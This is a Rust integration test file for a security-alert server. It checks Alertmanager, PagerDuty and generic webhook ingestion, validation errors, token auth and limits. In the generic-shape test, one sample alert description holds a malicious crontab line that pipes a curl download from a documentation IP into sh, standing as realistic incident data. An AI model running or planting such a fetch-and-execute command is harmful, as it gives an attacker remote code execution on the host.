//! SOC webhooks over real HTTP, on both stores: payloads written from the public
//! documentation of the Prometheus Alertmanager webhook (version 4) and the PagerDuty Events
//! API v2, and the generic shape of `docs/WEBHOOKS.md`.

#![allow(clippy::unwrap_used, clippy::expect_used)]

mod support;

use sems_proto::v1 as pb;
use sems_testkit::{Backend, on_both_stores};
use serde_json::{Value, json};
use support::Server;

on_both_stores!(
    alertmanager_firing_alerts_are_ingested_and_resolved_ones_resolved_at_the_source,
    the_pagerduty_endpoint_answers_as_pagerduty_and_follows_trigger_acknowledge_resolve,
    the_generic_shape_ingests_retries_idempotently_and_resolves,
    bad_payloads_get_a_4xx_naming_the_problem_and_append_nothing,
    a_configured_token_is_required,
    status_names_the_store_in_use,
    alertmanager_alerts_over_the_limits_are_cut_not_lost,
);

/// An Alertmanager notification (Prometheus docs, "webhook_config": version 4).
fn alertmanager(status: &str, alerts: Vec<Value>) -> String {
    json!({
        "version": "4",
        "groupKey": "{}/{severity=~\"critical|warning\"}:{alertname=\"NodeFilesystemAlmostFull\"}",
        "truncatedAlerts": 0,
        "status": status,
        "receiver": "sems",
        "groupLabels": {"alertname": "NodeFilesystemAlmostFull"},
        "commonLabels": {"alertname": "NodeFilesystemAlmostFull", "job": "node"},
        "commonAnnotations": {},
        "externalURL": "http://alertmanager.example.org:9093",
        "alerts": alerts,
    })
    .to_string()
}

fn am_alert(status: &str, instance: &str, severity: &str, fingerprint: &str) -> Value {
    json!({
        "status": status,
        "labels": {
            "alertname": "NodeFilesystemAlmostFull",
            "instance": instance,
            "job": "node",
            "mountpoint": "/var",
            "severity": severity,
        },
        "annotations": {
            "summary": format!("Filesystem /var on {instance} has less than 5% space left"),
            "description": "Filesystem on /var at 192.0.2.10:9100 has only 3.2% available space left.",
        },
        "startsAt": "2026-11-27T09:30:00.000Z",
        "endsAt": if status == "resolved" { "2026-11-27T09:45:00.000Z" } else { "0001-01-01T00:00:00Z" },
        "generatorURL": "http://prometheus.example.org:9090/graph?g0.expr=node_filesystem_avail_bytes",
        "fingerprint": fingerprint,
    })
}

/// The alerts of one source, by dedup key, as the read model lists them.
async fn alerts_of(s: &Server, source: &str, min_position: u64) -> Vec<pb::AlertView> {
    s.queries()
        .list_alerts(pb::ListAlertsRequest {
            page_size: 500,
            consistency: Some(pb::Consistency {
                min_position,
                latest: false,
            }),
            ..Default::default()
        })
        .await
        .unwrap()
        .into_inner()
        .alerts
        .into_iter()
        .filter(|a| a.source == source)
        .collect()
}

async fn alertmanager_firing_alerts_are_ingested_and_resolved_ones_resolved_at_the_source(
    backend: Backend,
) {
    let s = Server::start(backend).await;
    let firing = alertmanager(
        "firing",
        vec![
            am_alert("firing", "192.0.2.10:9100", "critical", "3d1f7b2a9c0e4d11"),
            am_alert("firing", "192.0.2.11:9100", "warning", "8e2a6c4b1d3f5a22"),
        ],
    );
    let r = s.post("/webhooks/alertmanager", &firing, &[]).await;
    assert_eq!(r.status, 200, "{}", r.body);
    // The keys come in the order WEBHOOKS.md shows.
    assert!(
        r.body.starts_with(r#"{"results":[{"source_ref":"#)
            && r.body.contains(r#","status":"firing","alert_id":"#)
            && r.body.contains(r#","repeat":false,"incident_id":"#),
        "{}",
        r.body
    );
    let results = r.json()["results"].as_array().unwrap().clone();
    assert_eq!(results.len(), 2);
    assert!(
        results[0]["incident_id"].is_string(),
        "critical opens an incident"
    );
    assert!(
        results[1]["incident_id"].is_null(),
        "warning waits for triage"
    );
    let position = results
        .iter()
        .map(|r| r["position"].as_u64().unwrap())
        .max()
        .unwrap();

    let listed = alerts_of(&s, "alertmanager", position).await;
    assert_eq!(listed.len(), 2);
    let critical = listed
        .iter()
        .find(|a| a.source_ref == "3d1f7b2a9c0e4d11")
        .unwrap();
    assert_eq!(critical.severity, pb::Severity::Critical as i32);
    assert_eq!(
        critical.title,
        "Filesystem /var on 192.0.2.10:9100 has less than 5% space left"
    );
    assert_eq!(critical.source_state, "firing");
    assert_eq!(critical.status, "promoted");

    // The same group notified again (Alertmanager's repeat_interval): repeats, not new alerts.
    let r = s.post("/webhooks/alertmanager", &firing, &[]).await;
    assert_eq!(r.json()["results"][0]["repeat"], true);

    // Resolved: the source's view changes, triage does not.
    let count = s.message_count().await;
    let resolved = alertmanager(
        "resolved",
        vec![am_alert(
            "resolved",
            "192.0.2.11:9100",
            "warning",
            "8e2a6c4b1d3f5a22",
        )],
    );
    let r = s.post("/webhooks/alertmanager", &resolved, &[]).await;
    assert_eq!(r.status, 200, "{}", r.body);
    let result = &r.json()["results"][0];
    assert_eq!(
        (result["known"].as_bool(), result["changed"].as_bool()),
        (Some(true), Some(true))
    );
    let listed = alerts_of(&s, "alertmanager", result["position"].as_u64().unwrap()).await;
    let warning = listed
        .iter()
        .find(|a| a.source_ref == "8e2a6c4b1d3f5a22")
        .unwrap();
    assert_eq!(warning.source_state, "resolved");
    assert_eq!(warning.status, "received");
    let at = warning.source_resolved_at.as_ref().unwrap();
    assert_eq!(
        chrono::DateTime::from_timestamp(at.seconds, 0)
            .unwrap()
            .to_rfc3339(),
        "2026-11-27T09:45:00+00:00",
        "resolved at the source's endsAt"
    );
    assert_eq!(s.message_count().await, count + 1);

    // Resolved again (send_resolved on every repeat): nothing more is recorded.
    let r = s.post("/webhooks/alertmanager", &resolved, &[]).await;
    assert_eq!(r.json()["results"][0]["changed"], false);
    assert_eq!(s.message_count().await, count + 1);
    s.stop().await;
}

/// A PagerDuty Events API v2 event, as PagerDuty's documentation writes it.
fn pd_trigger() -> Value {
    json!({
        "payload": {
            "summary": "DISK at 99% on machine prod-datapipe03.example.com",
            "timestamp": "2015-07-17T08:42:58.315+0000",
            "severity": "critical",
            "source": "prod-datapipe03.example.com",
            "component": "mysql",
            "group": "prod-datapipe",
            "class": "deploy",
            "custom_details": {"free space": "1%", "ping time": "1500ms", "load avg": 0.75}
        },
        "routing_key": "e93facc04764012d7bfb002500d5d1a6",
        "dedup_key": "srv01/mysql",
        "event_action": "trigger",
        "client": "Sample Monitoring Service",
        "client_url": "https://monitoring.service.com",
        "links": [{"href": "http://pagerduty.example.com", "text": "An example link."}],
        "images": [{"src": "https://chart.googleapis.com/chart?chs=600x400", "alt": "An example chart"}]
    })
}

async fn the_pagerduty_endpoint_answers_as_pagerduty_and_follows_trigger_acknowledge_resolve(
    backend: Backend,
) {
    let s = Server::start(backend).await;
    let r = s.post("/v2/enqueue", &pd_trigger().to_string(), &[]).await;
    assert_eq!(r.status, 202, "{}", r.body);
    // Byte for byte PagerDuty's answer, its keys in its order (a script may compare text).
    assert_eq!(
        r.body,
        r#"{"status":"success","message":"Event processed","dedup_key":"srv01/mysql"}"#
    );
    // The same API under a longer path, for tools that only let one set a base URL.
    let mut again = pd_trigger();
    again["payload"]["severity"] = json!("error");
    let r = s
        .post("/webhooks/pagerduty/v2/enqueue", &again.to_string(), &[])
        .await;
    assert_eq!(r.status, 202, "{}", r.body);

    for (action, state) in [("acknowledge", "acknowledged"), ("resolve", "resolved")] {
        let event = json!({
            "routing_key": "e93facc04764012d7bfb002500d5d1a6",
            "dedup_key": "srv01/mysql",
            "event_action": action,
        });
        let r = s.post("/v2/enqueue", &event.to_string(), &[]).await;
        assert_eq!(r.status, 202, "{}", r.body);
        assert_eq!(r.json()["dedup_key"], "srv01/mysql");
        let (_, last) = s.stores.log().await.unwrap().state().await.unwrap();
        let listed = alerts_of(&s, "pagerduty", last).await;
        assert_eq!(listed.len(), 1);
        assert_eq!(listed[0].source_state, state);
        assert_eq!(listed[0].source_ref, "srv01/mysql");
        assert_eq!(listed[0].repeat_count, 1);
        assert_eq!(listed[0].severity, pb::Severity::Critical as i32);
    }

    // The routing key is never stored.
    let log = s.log().await;
    let (_, last) = s.stores.log().await.unwrap().state().await.unwrap();
    for position in 1..=last {
        let c = log.read_at(position).await.unwrap();
        let text = String::from_utf8(c.bytes.to_vec()).unwrap();
        assert!(!text.contains("e93facc04764012d7bfb002500d5d1a6"), "{text}");
    }

    // A trigger without a dedup key gets one, as from PagerDuty.
    let mut keyless = pd_trigger();
    keyless.as_object_mut().unwrap().remove("dedup_key");
    let r = s.post("/v2/enqueue", &keyless.to_string(), &[]).await;
    assert_eq!(r.status, 202, "{}", r.body);
    let key = r.json()["dedup_key"].as_str().unwrap().to_owned();
    assert!(!key.is_empty() && key != "srv01/mysql");

    // Acknowledging a key never triggered here is accepted and records nothing.
    let count = s.message_count().await;
    let unknown = json!({"routing_key": "k", "dedup_key": "never-seen", "event_action": "resolve"});
    let r = s.post("/v2/enqueue", &unknown.to_string(), &[]).await;
    assert_eq!(r.status, 202, "{}", r.body);
    assert_eq!(s.message_count().await, count);
    s.stop().await;
}

async fn the_generic_shape_ingests_retries_idempotently_and_resolves(backend: Backend) {
    let s = Server::start(backend).await;
    let alert = json!({
        "source": "osquery",
        "source_ref": "pack/incident-response/crontab/host-42",
        "title": "New crontab entry on host-42",
        "description": "* * * * * curl -s http://198.51.100.9/a | sh",
        "severity": "high",
        "occurred_at": "2026-11-27T10:00:00Z",
        "observables": [{"type": "host", "value": "host-42"}, {"type": "ip", "value": "198.51.100.9"}],
        "labels": {"team": "blue"},
        "raw": {"name": "pack_incident-response_crontab", "hostIdentifier": "host-42"},
        "request_id": "osq-1"
    });
    let first = s.post("/webhooks/generic", &alert.to_string(), &[]).await;
    assert_eq!(first.status, 202, "{}", first.body);
    // The keys come in the order WEBHOOKS.md shows.
    let keys = [
        "alert_id",
        "repeat",
        "incident_id",
        "position",
        "version",
        "replayed",
    ];
    let at = keys.map(|k| first.body.find(&format!("\"{k}\":")));
    assert!(
        at.iter().all(Option::is_some) && at.is_sorted(),
        "{}",
        first.body
    );
    let first = first.json();
    assert!(first["incident_id"].is_string());
    let count = s.message_count().await;
    let again = s
        .post("/webhooks/generic", &alert.to_string(), &[])
        .await
        .json();
    assert_eq!(again["replayed"], true);
    assert_eq!(again["position"], first["position"]);
    assert_eq!(s.message_count().await, count, "a retry appends nothing");

    let resolve = json!({
        "action": "resolve",
        "source": "osquery",
        "source_ref": "pack/incident-response/crontab/host-42",
    });
    let r = s.post("/webhooks/generic", &resolve.to_string(), &[]).await;
    assert_eq!(r.status, 202, "{}", r.body);
    let r = r.json();
    assert_eq!(
        (r["known"].as_bool(), r["changed"].as_bool()),
        (Some(true), Some(true))
    );
    let listed = alerts_of(&s, "osquery", r["position"].as_u64().unwrap()).await;
    assert_eq!(listed[0].source_state, "resolved");
    assert_eq!(listed[0].status, "promoted");
    s.stop().await;
}

async fn bad_payloads_get_a_4xx_naming_the_problem_and_append_nothing(backend: Backend) {
    let s = Server::start(backend).await;
    let before = s.message_count().await;
    let cases: Vec<(&str, String, u16, &str)> = vec![
        (
            "/webhooks/alertmanager",
            alertmanager("firing", vec![]).replace("\"4\"", "\"3\""),
            400,
            "version",
        ),
        (
            "/webhooks/alertmanager",
            // The first alert is fine, the second has nothing to title it: neither is stored.
            alertmanager(
                "firing",
                vec![
                    am_alert("firing", "192.0.2.10:9100", "critical", "aa"),
                    json!({"status": "firing", "labels": {"job": "node"}, "annotations": {},
                           "startsAt": "2026-11-27T09:30:00Z", "fingerprint": "bb"}),
                ],
            ),
            400,
            "alerts[1].labels.alertname",
        ),
        (
            "/webhooks/alertmanager",
            alertmanager(
                "firing",
                vec![json!({"status": "firing", "labels": {"alertname": "X"},
                            "startsAt": "yesterday", "fingerprint": "cc"})],
            ),
            400,
            "alerts[0].startsAt",
        ),
        ("/webhooks/alertmanager", "not json".into(), 400, "JSON"),
        (
            "/webhooks/generic",
            json!({"source": "s", "source_ref": "r", "title": "t", "severity": "urgent"})
                .to_string(),
            400,
            "severity",
        ),
        (
            "/webhooks/generic",
            json!({"source": "s", "source_ref": "r", "titel": "t", "severity": "low"}).to_string(),
            400,
            "titel",
        ),
        (
            "/webhooks/generic",
            json!({"source": "s", "source_ref": "r", "title": "", "severity": "low"}).to_string(),
            400,
            "title",
        ),
        (
            // A NUL character anywhere in the original payload (the read model cannot hold it).
            "/webhooks/generic",
            json!({"source": "s", "source_ref": "r", "title": "t", "severity": "low",
                   "raw": {"cmd": ["ok", "a\u{0}b"]}})
            .to_string(),
            400,
            "raw",
        ),
        (
            // Resolves are checked like triggers: a dedup key with a line break…
            "/webhooks/generic",
            json!({"action": "resolve", "source": "s", "source_ref": "a\nb"}).to_string(),
            400,
            "source_ref",
        ),
    ];
    for (path, body, status, names) in cases {
        let r = s.post(path, &body, &[]).await;
        assert_eq!(r.status, status, "{path} {body}: {}", r.body);
        assert!(
            r.json()["error"].as_str().unwrap().contains(names),
            "{path}: {}",
            r.body
        );
    }
    // PagerDuty's own error shape.
    let mut no_summary = pd_trigger();
    no_summary["payload"]["summary"] = json!("");
    let mut bad_severity = pd_trigger();
    bad_severity["payload"]["severity"] = json!("sev1");
    let mut no_key = json!({"routing_key": "k", "event_action": "resolve"});
    assert_eq!(s.message_count().await, before, "nothing appended");
    // …and a resolve of a known alert carrying more than 64 KiB is refused.
    s.post("/v2/enqueue", &pd_trigger().to_string(), &[]).await;
    let huge = json!({"routing_key": "k", "dedup_key": "srv01/mysql", "event_action": "resolve",
                      "payload": {"summary": "x", "source": "y", "severity": "info",
                                  "custom_details": {"dump": "z".repeat(70_000)}}});
    // Details nested deeper than the API keeps: 64 levels of arrays and objects in the
    // event, which holds them two levels down. 62 of theirs are kept, 63 refused.
    let nested = |levels: usize, key: &str| {
        let details = (1..levels).fold(json!({"leaf": 1}), |inner, _| json!({ "more": inner }));
        json!({"routing_key": "k", "dedup_key": key, "event_action": "trigger",
               "payload": {"summary": "x", "source": "y", "severity": "info",
                           "custom_details": details}})
    };
    let kept = s
        .post("/v2/enqueue", &nested(62, "srv01/deep-62").to_string(), &[])
        .await;
    assert_eq!(kept.status, 202, "{}", kept.body);
    let before = s.message_count().await;
    let deep = nested(63, "srv01/deep-63");
    for (event, names) in [
        (huge, "payload.custom_details"),
        (deep, "payload.custom_details"),
        (no_summary, "payload.summary"),
        (bad_severity, "payload.severity"),
        (no_key.take(), "dedup_key"),
        (
            json!({"routing_key": "k", "event_action": "explode"}),
            "event_action",
        ),
        (json!({"event_action": "trigger"}), "routing_key"),
        (
            {
                let mut nul = pd_trigger();
                nul["links"] = json!([{"href": "https://example.org", "text": "a\u{0}b"}]);
                nul
            },
            "links[0].text",
        ),
    ] {
        let r = s.post("/v2/enqueue", &event.to_string(), &[]).await;
        assert_eq!(r.status, 400, "{event}: {}", r.body);
        // PagerDuty's shape, its keys in its order.
        assert!(
            r.body.starts_with(
                r#"{"status":"invalid event","message":"Event object is invalid","errors":["#
            ),
            "{}",
            r.body
        );
        let answer = r.json();
        assert!(
            answer["errors"][0].as_str().unwrap().contains(names),
            "{}",
            r.body
        );
    }
    assert_eq!(s.message_count().await, before, "nothing appended");
    s.stop().await;
}

async fn a_configured_token_is_required(backend: Backend) {
    let s = Server::start_with(backend, |c| c.grpc.webhook_token = Some("s3cret".into())).await;
    let firing = alertmanager(
        "firing",
        vec![am_alert("firing", "192.0.2.10:9100", "warning", "dd")],
    );
    let r = s.post("/webhooks/alertmanager", &firing, &[]).await;
    assert_eq!(r.status, 401, "{}", r.body);
    let r = s
        .post(
            "/webhooks/alertmanager",
            &firing,
            &[("Authorization", "Bearer wrong")],
        )
        .await;
    assert_eq!(r.status, 401);
    let r = s
        .post(
            "/webhooks/alertmanager",
            &firing,
            &[("Authorization", "Bearer s3cret")],
        )
        .await;
    assert_eq!(r.status, 200, "{}", r.body);

    // The status names files on the host: it needs the token too; health checks do not.
    assert_eq!(s.get("/status").await.status, 401);
    assert_eq!(s.get("/healthz").await.status, 200);

    let r = s.post("/v2/enqueue", &pd_trigger().to_string(), &[]).await;
    assert_eq!(r.status, 400);
    assert_eq!(r.json()["errors"][0], "Invalid routing key");
    let mut event = pd_trigger();
    event["routing_key"] = json!("s3cret");
    let r = s.post("/v2/enqueue", &event.to_string(), &[]).await;
    assert_eq!(r.status, 202, "{}", r.body);
    s.stop().await;
}

async fn status_names_the_store_in_use(backend: Backend) {
    let s = Server::start(backend).await;
    let r = s.get("/healthz").await;
    assert_eq!((r.status, r.body.as_str()), (200, "ok\n"));
    let status = s.get("/status").await.json();
    match backend {
        Backend::Embedded => {
            assert_eq!(status["store"], "embedded");
            let before = status["event_log"]["group_commits"].as_u64().unwrap();
            s.post(
                "/webhooks/generic",
                &json!({"source": "s", "source_ref": "r", "title": "t", "severity": "low"})
                    .to_string(),
                &[],
            )
            .await;
            let after = s.get("/status").await.json();
            assert!(after["event_log"]["group_commits"].as_u64().unwrap() > before);
            // The new alert's aggregate-index entry waits in memory for the sweep (one
            // commit earns no range of the 65,536-commit sweep); the read model reports
            // its alert keys in memory too.
            assert!(
                after["event_log"]["aggregate_index_in_memory"]
                    .as_u64()
                    .unwrap()
                    >= 1
            );
            assert!(
                after["read_model"]["alert_keys_in_memory"]
                    .as_u64()
                    .is_some()
            );
            assert!(
                after["event_log"]["path"]
                    .as_str()
                    .unwrap()
                    .ends_with("events.db")
            );
        }
        Backend::JetStream => {
            assert_eq!(status["store"], "nats+postgresql");
            assert_eq!(status["event_log"]["stream"], "SEMS");
        }
    }
    s.stop().await;
}

async fn alertmanager_alerts_over_the_limits_are_cut_not_lost(backend: Backend) {
    let s = Server::start(backend).await;
    let mut long = am_alert("firing", "192.0.2.20:9100", "warning", "ee");
    long["annotations"]["summary"] = json!("S".repeat(300));
    let mut blank = am_alert("firing", "192.0.2.21:9100", "warning", "ff");
    blank["annotations"]["summary"] = json!("  ");
    let mut many = am_alert("firing", "192.0.2.22:9100", "warning", "gg");
    for i in 0..80 {
        many["labels"][format!("extra_{i:02}")] = json!("v");
    }
    let r = s
        .post(
            "/webhooks/alertmanager",
            &alertmanager("firing", vec![long, blank, many]),
            &[],
        )
        .await;
    assert_eq!(r.status, 200, "{}", r.body);
    let last = r.json()["results"]
        .as_array()
        .unwrap()
        .iter()
        .map(|x| x["position"].as_u64().unwrap())
        .max()
        .unwrap();
    let listed = alerts_of(&s, "alertmanager", last).await;
    assert_eq!(listed.len(), 3, "no alert of the group is lost");
    let title = |r: &str| {
        listed
            .iter()
            .find(|a| a.source_ref == r)
            .unwrap()
            .title
            .clone()
    };
    assert_eq!(title("ee").chars().count(), 200);
    assert!(title("ee").ends_with('…'));
    assert_eq!(
        title("ff"),
        "NodeFilesystemAlmostFull",
        "a blank summary falls back"
    );
    s.stop().await;
}
